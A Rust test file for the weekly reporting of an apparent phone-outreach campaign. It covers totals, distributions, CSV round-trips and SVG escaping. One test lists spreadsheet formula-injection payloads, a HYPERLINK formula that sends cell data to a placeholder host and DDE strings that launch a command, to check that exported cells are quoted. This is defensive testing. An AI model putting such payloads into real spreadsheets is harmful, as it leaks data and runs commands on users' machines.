use super::*;
use crate::domain::IsoWeek;

/// One caller's sums for a week: `calls` calls over 10 assignments.
pub(crate) fn caller(id: i64, calls: i64) -> CallerWeek {
    CallerWeek {
        caller_id: id,
        assigned: 10,
        attempted: calls.min(10),
        calls,
        reached: calls.min(10) / 2,
        conversations: calls.min(10) / 3,
        unanswered_closed: 1,
        unanswered_open: 2,
        opted_out: 1,
        paused: 0,
        deceased: 0,
        wrong_numbers: 1,
    }
}

fn escalation(category: &str, territory: Option<&str>, n: i64) -> EscalationCount {
    EscalationCount {
        kind: EscalationKind::Need,
        category: NeedCategory::parse(category).unwrap(),
        status: EscalationStatus::Open,
        territory: territory.map(str::to_string),
        n,
    }
}

fn ctx(now_week: IsoWeek, week: IsoWeek) -> WeekContext {
    WeekContext {
        campaign: "default".into(),
        week,
        now: now_week.starts_at() + chrono::Duration::days(2),
    }
}

fn sample() -> (WeekRows, WeekRows) {
    let this = WeekRows {
        eligible: 100,
        callers: vec![caller(1, 0), caller(2, 5), caller(3, 12), caller(4, 60)],
        escalations: vec![
            escalation("food", Some("T1"), 2),
            escalation("health", None, 1),
        ],
    };
    let previous = WeekRows {
        eligible: 90,
        callers: vec![caller(1, 3), caller(2, 3)],
        escalations: vec![escalation("food", Some("T1"), 5)],
    };
    (this, previous)
}

#[test]
fn sums_callers_and_escalations() {
    let week = IsoWeek::parse("2026-W48").unwrap();
    let (this, previous) = sample();
    let t = week_totals(&ctx(week, week), &this, &previous);
    assert_eq!(t.assigned, 40);
    assert_eq!(t.attempted, 5 + 10 + 10);
    assert_eq!(t.not_attempted, 40 - 25);
    assert_eq!(t.calls, 77);
    assert_eq!(t.reached, 2 + 5 + 5);
    assert_eq!(t.callers_assigned, 4);
    assert_eq!(t.callers_active, 3);
    assert_eq!(t.callers_not_started, 1);
    // The week is running: open unanswered assignments are in progress, not "not reached".
    assert!(t.live && !t.week_over);
    assert_eq!(t.not_reached, 4);
    assert_eq!(t.in_progress, 8);
    assert_eq!(t.escalations, 3);
    assert_eq!(t.escalations_by_category["food"], 2);
    assert_eq!(t.escalations_by_category["money"], 0);
    assert_eq!(t.escalations_by_territory["T1"], 2);
    assert_eq!(t.escalations_by_territory[NO_TERRITORY], 1);
    assert_eq!(t.escalations_by_status["open"], 3);
    assert_eq!(t.escalations_by_status["handled"], 0);
    assert_eq!(t.escalations_by_kind["need"], 3);
    assert_eq!(t.coverage_pct, Some(12.0));
    assert_eq!(t.previous_week, "2026-W47");
    // The previous week is over: its open unanswered rows count as not reached.
    assert_eq!(t.previous.not_reached, 6);
    assert_eq!(t.previous.escalations, 5);
    assert_eq!(t.change.escalations, -2);
    assert_eq!(t.change.eligible, 10);
    assert_eq!(t.change.reached, 12 - 2);
    assert_eq!(t.change.coverage_pct, Some(12.0 - 2.2));
}

#[test]
fn a_past_week_has_nothing_in_progress() {
    let week = IsoWeek::parse("2026-W40").unwrap();
    let now = IsoWeek::parse("2026-W48").unwrap();
    let (this, previous) = sample();
    let t = week_totals(&ctx(now, week), &this, &previous);
    assert!(!t.live && t.week_over);
    assert_eq!(t.in_progress, 0);
    assert_eq!(t.not_reached, 12);
}

#[test]
fn calls_per_caller_distribution() {
    let d = calls_distribution(&[caller(1, 0), caller(2, 5), caller(3, 12), caller(4, 60)]);
    assert_eq!((d.min, d.max), (0, 60));
    assert_eq!(d.median, 8.5);
    assert_eq!(d.buckets["0"], 1);
    assert_eq!(d.buckets["1-9"], 1);
    assert_eq!(d.buckets["10-24"], 1);
    assert_eq!(d.buckets["25-49"], 0);
    assert_eq!(d.buckets["50+"], 1);
    let empty = calls_distribution(&[]);
    assert_eq!((empty.min, empty.median, empty.max), (0, 0.0, 0));
}

#[test]
fn an_empty_week_has_no_percentages() {
    let week = IsoWeek::parse("2026-W48").unwrap();
    let t = week_totals(&ctx(week, week), &WeekRows::default(), &WeekRows::default());
    assert_eq!(t.coverage_pct, None);
    assert_eq!(t.attempted_pct, None);
    assert_eq!(t.change.coverage_pct, None);
    assert_eq!(t.escalations_by_territory.len(), 0);
}

#[test]
fn csv_reads_back_to_the_same_totals() {
    let week = IsoWeek::parse("2026-W48").unwrap();
    let (mut this, previous) = sample();
    this.escalations
        .push(escalation("other", Some("ST.QUENTIN;2"), 4));
    let t = week_totals(&ctx(week, week), &this, &previous);
    let csv = totals_csv(&t).unwrap();
    assert!(
        csv.starts_with("figure;value\ncampaign;default\nweek;2026-W48\n"),
        "{csv}"
    );
    assert!(csv.contains("\nreached;12\n"), "{csv}");
    assert!(csv.contains("\nescalations_by_category.food;2\n"), "{csv}");
    assert!(csv.contains("\ncalls_per_caller.buckets.50+;1\n"), "{csv}");
    assert_eq!(totals_from_csv(&csv).unwrap(), t);
    let empty = week_totals(&ctx(week, week), &WeekRows::default(), &WeekRows::default());
    assert_eq!(
        totals_from_csv(&totals_csv(&empty).unwrap()).unwrap(),
        empty
    );
}

#[test]
fn csv_that_is_not_totals_is_refused() {
    assert!(totals_from_csv("figure;value\nreached;12\n").is_err());
    assert!(totals_from_csv("figure;value\nreached\n").is_err());
}

#[test]
fn time_given_uses_durations_then_estimates() {
    let mut t = TimeGiven::default();
    t.add(&TimeGivenRow {
        caller_id: 1,
        outcome: crate::domain::Outcome::ReachedOk,
        calls: 3,
        timed_calls: 1,
        timed_seconds: 420,
    });
    t.add(&TimeGivenRow {
        caller_id: 1,
        outcome: crate::domain::Outcome::NoAnswer,
        calls: 4,
        timed_calls: 0,
        timed_seconds: 0,
    });
    assert_eq!(t.calls, 7);
    assert_eq!(t.conversations, 3);
    assert_eq!(t.recorded_seconds, 420);
    assert_eq!(t.estimated_seconds, 2 * 600 + 4 * 120);
    assert_eq!(t.hours_minutes(), "0 h 35");
    assert_eq!(t.half_days(), 0.2);
    assert_eq!(estimated_seconds(crate::domain::Outcome::Refused), 300);
}

#[test]
fn chart_escapes_and_scales() {
    let labels = vec!["2026-W47".to_string(), "2026-W48".to_string()];
    let svg = line_chart_svg(
        "Joints <semaine>",
        &labels,
        &[Series {
            name: "a&b",
            colour: "#1f77b4",
            values: vec![3, 7],
        }],
    );
    assert!(svg.starts_with("<svg"));
    assert!(svg.ends_with("</svg>"));
    assert!(svg.contains("Joints &lt;semaine&gt;"));
    assert!(svg.contains("a&amp;b 2026-W48: 7"));
    assert!(!svg.contains("<semaine>"));
    // The axis goes to a round 10 above the largest value.
    assert!(svg.contains(">10</text>"));
    assert!(svg.contains("<polyline"));
}

#[test]
fn csv_cells_that_a_spreadsheet_would_run_get_a_quote() {
    for hostile in [
        "=HYPERLINK(\"http://x/?\"&D2,\"Dupont\")",
        "=1+1",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
        "-",
        "+",
        "+33 6 12",
        "-3e5",
        "1|=2",
    ] {
        let cell = csv_cell(hostile);
        if hostile.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            assert_eq!(cell, format!("'{hostile}"), "{hostile:?}");
            assert_eq!(csv_uncell(&cell), hostile);
        } else {
            assert_eq!(cell, hostile);
        }
    }
    // Plain text, and numbers as lien writes them (changes, E.164 phones), stay as is.
    for safe in [
        "Dupont",
        "",
        "12",
        "-3",
        "+4.5",
        "+33612345678",
        "+33612345678|+33712345678",
        "a=b",
    ] {
        assert_eq!(csv_cell(safe), safe);
        assert_eq!(csv_uncell(safe), safe);
    }
    // A cell already beginning with `'` is text to a spreadsheet: written as it is.
    assert_eq!(csv_cell("'=already"), "'=already");
}

#[test]
fn a_totals_csv_with_negative_changes_and_a_quoted_cell_reads_back() {
    let week = IsoWeek::parse("2026-W48").unwrap();
    let (this, previous) = sample();
    let mut t = week_totals(&ctx(week, week), &previous, &this);
    t.campaign = "-hiver".into();
    let csv = totals_csv(&t).unwrap();
    assert!(csv.contains("\ncampaign;'-hiver\n"), "{csv}");
    assert!(
        csv.contains(";-"),
        "a negative change, written as a number: {csv}"
    );
    assert_eq!(totals_from_csv(&csv).unwrap(), t);
}
